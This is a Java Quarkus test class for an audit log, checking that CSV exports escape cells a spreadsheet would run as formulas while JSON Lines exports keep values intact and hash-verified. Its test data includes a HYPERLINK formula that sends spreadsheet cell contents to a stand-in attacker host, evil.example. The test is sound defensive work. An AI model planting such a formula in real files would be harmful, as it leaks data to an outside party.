package studio.audit;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static studio.audit.TestIdentities.asTestIdentity;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import studio.audit.AuditEntry.Subject;
import studio.governance.Actor;
import studio.governance.Roles;

/**
 * CSV exports neutralise cells a spreadsheet would run as formulas (OWASP's CSV injection rule) and say so on the page
 * that offers them; the JSON Lines export keeps every value exactly as stored and hashed.
 */
@QuarkusTest
@TestSecurity(user = "ann", roles = Roles.AUDITOR)
class AuditCsvInjectionTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

    @Inject
    AuditLog log;

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '"', value = {
            "=1+1|'=1+1", "+1|'+1", "-1|'-1", "@SUM(A1)|'@SUM(A1)", "plain|plain", "a=b|a=b", "''|''", "'=x|'=x"})
    void cellsThatSpreadsheetsWouldRunAreWrittenAsText(String value, String written) {
        assertEquals(written, AuditCsv.neutralised(value));
    }

    @Test
    void tabsAndCarriageReturnsToo() {
        assertAll(
                () -> assertEquals("'\tcmd", AuditCsv.neutralised("\tcmd")),
                () -> assertEquals("'\rcmd", AuditCsv.neutralised("\rcmd")),
                () -> assertEquals("\"'\rcmd\"", AuditCsv.field(AuditCsv.neutralised("\rcmd")), "then quoted as RFC 4180 asks"));
    }

    @BeforeEach
    void anEventWithAFormulaForAnActor() {
        AuditDatabase.reset();
        QuarkusTransaction.requiringNew().run(() -> log.recordNow(new Actor(FORMULA, Set.of(Roles.CI)),
                AuditEntry.of("MilestoneEvaluated", Subject.milestone("-m1"), "@trace", null)));
    }

    @Test
    void theCsvExportNeutralisesAndJsonLinesKeepsTheValueAsHashed() {
        List<List<String>> csv = CsvReader.parse(asTestIdentity().queryParam("format", "csv").get("/api/audit/export").then()
                .statusCode(200).extract().asString());
        assertAll(
                () -> assertEquals(AuditCsv.HEADER, csv.get(0)),
                () -> assertEquals("'" + FORMULA, csv.get(1).get(2)),
                () -> assertEquals("'-m1", csv.get(1).get(5)),
                () -> assertEquals("'@trace", csv.get(1).get(7)));
        String jsonl = asTestIdentity().queryParam("format", "jsonl").get("/api/audit/export").then().statusCode(200).extract().asString();
        AuditEvent event = AuditEventJson.read(jsonl.strip());
        assertEquals(FORMULA, event.record().actor());
        assertEquals(event.hash(), AuditHasher.hash(event.record()), "the JSON Lines row still hashes to its stored hash");
    }

    @Test
    void theTimelineSaysSoBesideTheExports() {
        given().get("/audit").then().statusCode(200)
                .body(containsString("is prefixed with <code>'</code> so that spreadsheets show it as text"));
    }
}
